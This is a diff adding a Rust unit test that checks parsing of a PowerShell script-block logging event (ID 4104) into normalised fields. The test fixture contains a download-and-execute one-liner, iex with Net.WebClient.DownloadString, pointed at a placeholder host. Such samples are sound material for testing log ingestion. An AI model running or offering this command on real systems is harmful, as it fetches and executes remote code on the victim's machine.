@@ -3031,5 +3031,13 @@ mod tests {
         assert_eq!(ssh.doc["event"]["category"], json!(["authentication"]));
         assert_eq!(ssh.doc["user"]["name"], "itadmin");
         assert_eq!(ssh.doc["source"]["ip"], "10.22.14.201");
+        // A 4104 event rendered as text (a Graylog beats message).
+        let sb = from_json(json!({"source": "HR-LT-0193", "message": "Creating Scriptblock text (1 of 2):\r\niex (New-Object Net.WebClient).DownloadString('http://x/a')\r\n\r\nScriptBlock ID: 4e7a0c91\r\nPath: "}), "x").unwrap();
+        assert_eq!(
+            sb.doc["powershell"]["file"]["script_block_text"],
+            "iex (New-Object Net.WebClient).DownloadString('http://x/a')"
+        );
+        assert_eq!(sb.doc["powershell"]["file"]["script_block_id"], "4e7a0c91");
+        assert_eq!(sb.doc["powershell"]["total"], 2);
     }
 }
